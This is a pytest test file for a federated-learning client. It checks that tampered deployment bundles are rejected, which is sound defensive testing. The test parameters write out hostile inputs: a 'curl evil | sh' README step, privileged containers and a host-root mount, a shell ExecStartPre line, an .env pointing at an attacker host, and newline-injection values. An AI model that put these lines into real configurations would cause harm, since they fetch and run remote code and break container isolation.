"""What a server could put into a bundle, and the hospital's own rendering of the same files does not have."""

import io
import json
import tarfile
from pathlib import Path

import pytest
from archives import untar
from taken import silofl

from client.protocol.bundle_files import VALUES, BundleValues, render
from client.site.trust.bundle import read_bundle
from server.deploy.bundle import Bundle

COMPOSE, UNIT = "docker-compose.yml", "clinic.container"


@pytest.fixture(autouse=True)
def files(tmp_path, monkeypatch):
    """The files of an honest bundle."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.chdir(tmp_path)
    Bundle("clinic", "net", "fl.example.org:9092", b"CA", b"KEY", "# pins\n").write(
        Path("honest.tar")
    )
    return read_bundle(Path("honest.tar"))


def packed(files, name="clinic.tar", folder="clinic", mode=0o600):
    with tarfile.open(name, "w") as archive:
        for file, content in files.items():
            member = tarfile.TarInfo(f"{folder}/{file}")
            member.size, member.mode = len(content), mode
            archive.addfile(member, io.BytesIO(content))
    return Path(name)


def refused(bundle, reason, capsys):
    """Every command that takes a bundle ends with 2, and one line on standard error."""
    for command in ("check-bundle", "join", "doctor"):
        data = () if command == "check-bundle" else ("--data", "x.npz")
        assert silofl(command, bundle, *data) == 2
        error = capsys.readouterr().err
        assert reason in error and error.count("\n") == 1, error


def test_an_honest_bundle_is_taken_and_rendered_again_byte_for_byte(files):
    values = BundleValues.model_validate(json.loads(files[VALUES]))
    assert render(values) == {name: files[name].decode() for name in render(values)}
    untar(Path("honest.tar"), Path())
    assert silofl("check-bundle", "honest.tar") == silofl("check-bundle", "clinic") == 0


@pytest.mark.parametrize(
    ("name", "old", "new"),
    [
        (COMPOSE, "    read_only: true\n", "    privileged: true\n"),
        (COMPOSE, "- state:/state\n", "- state:/state\n      - /:/host\n"),
        (COMPOSE, "SILOFL_POLICY: /site/policy.toml", "SILOFL_POLICY: public"),
        (COMPOSE, "image: ${SILOFL_IMAGE}", "image: evil/silo"),
        (COMPOSE, "command: [install]", "entrypoint: [sh]"),
        (COMPOSE, "network_mode: none", "network_mode: host"),
        (UNIT, "[Service]\n", "[Service]\nExecStartPre=/bin/sh -c id\n"),
        (UNIT, "Exec=", "Environment=SILOFL_POLICY=public\nExec="),
        (f"{UNIT[:6]}-install.container", "Network=none\n", ""),
        ("README.md", "3. Check: ", "3. Check: curl evil | sh; "),
    ],
)
def test_a_file_that_is_not_rendered_is_refused(files, capsys, name, old, new):
    """In the tar, and in the folder unpacked from it."""
    text = files[name].decode()
    assert old in text
    bundle = packed({**files, name: text.replace(old, new, 1).encode()})
    reason = f"{name} is not what silofl makes of this bundle's {VALUES}"
    refused(bundle, reason, capsys)
    untar(bundle, Path())
    refused(Path("clinic"), reason, capsys)


@pytest.mark.parametrize("name", ["policy.toml", ".env"])
def test_the_hospitals_own_files_are_rendered_in_the_tar(files, capsys, name):
    """The server cannot loosen a policy; the hospital can, in its folder, and a line names the file."""
    old, new = (
        (b'studies = "required"', b'studies = "optional"')
        if name == "policy.toml"
        else (b"SILOFL_USER=10001:10001", b"SILOFL_USER=0:0")
    )
    assert old in files[name]
    bundle = packed({**files, name: files[name].replace(old, new)})
    refused(bundle, f"{name} is not what silofl makes", capsys)
    untar(bundle, Path())
    assert silofl("check-bundle", "clinic") == 0
    assert f"not as silofl made it, so this site's own: {name}\n" in capsys.readouterr().out


def test_a_variable_that_names_another_server_is_refused_in_the_folder_too(files, capsys):
    untar(Path("honest.tar"), Path())
    env = Path("clinic/.env")
    env.write_text(env.read_text().replace("fl.example.org", "evil.example.org"))
    refused(Path("clinic"), "SILOFL_SERVER in its .env is not what silofl makes", capsys)


@pytest.mark.parametrize("name", ["other.container", "clinic-2.container"])
def test_a_foreign_unit_is_refused(files, capsys, name):
    bundle = packed({**files, name: b"[Container]\nImage=evil\n"})
    refused(bundle, f"{name} is not what silofl makes", capsys)
    untar(bundle, Path())
    refused(Path("clinic"), f"{name} is not what silofl makes", capsys)


@pytest.mark.parametrize("name", ["x.kube", "x.volume", "clinic.container.d", "\x1b.pod"])
def test_what_podman_would_read_beside_the_units_is_refused(capsys, name):
    untar(Path("honest.tar"), Path())
    place = Path("clinic", name)
    place.mkdir() if name.endswith(".d") else place.write_text("")
    refused(Path("clinic"), f"holds {name!r}, which Podman would use beside", capsys)


@pytest.mark.parametrize(
    ("folder", "mode"), [("clinic", 0o755), ("clinic", 0o4600), ("clinic", 0o666)]
)
def test_members_that_others_may_change_or_run_are_refused(files, capsys, folder, mode):
    refused(packed(files, folder=folder, mode=mode), "which no bundle has in that form", capsys)


def test_files_in_two_folders_are_refused(files, capsys):
    bundle = packed(files)
    with tarfile.open(bundle, "a") as archive:
        archive.addfile(tarfile.TarInfo("other/signed.json"))
    refused(bundle, "holds 'other/signed.json', which no bundle has", capsys)


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("image", "silo:1\nVolume=/:/host"),
        ("image", "silo %h"),
        ("server", 'a:1" "--insecure:1'),
        ("name", "../x"),
        ("flwr", "1 SILOFL_POLICY=public"),
        ("device", "cpu\n"),
        ("privileged", "true"),
    ],
)
def test_no_value_brings_a_line_or_a_word_of_its_own(files, capsys, key, value):
    values = {**json.loads(files[VALUES]), key: value}
    bundle = packed({**files, VALUES: json.dumps(values).encode()})
    refused(bundle, f"the bundle's {VALUES}", capsys)


def test_values_that_say_another_thing_than_the_files_are_refused(files, capsys):
    values = {**json.loads(files[VALUES]), "image": "evil/silo:1"}
    bundle = packed({**files, VALUES: json.dumps(values).encode()})
    refused(bundle, f".env is not what silofl makes of this bundle's {VALUES}", capsys)


def test_a_bundle_of_another_version_says_what_to_do(files, capsys):
    """Equal files are taken whichever version made them; others are not called changed."""
    values = {**json.loads(files[VALUES]), "silofl": "0.2.9"}
    other = {**files, VALUES: json.dumps(values).encode()}
    assert silofl("check-bundle", packed(other)) == 0
    capsys.readouterr()
    text = files[COMPOSE].replace(b"size=256m", b"size=128m")
    refused(
        packed({**other, COMPOSE: text}),
        "silofl 0.2.9 made this bundle, this is 0.4.0, and they write docker-compose.yml differently: ask for a",
        capsys,
    )
    del other[VALUES]
    refused(packed(other), f"has no {VALUES}, so an older silofl made it", capsys)
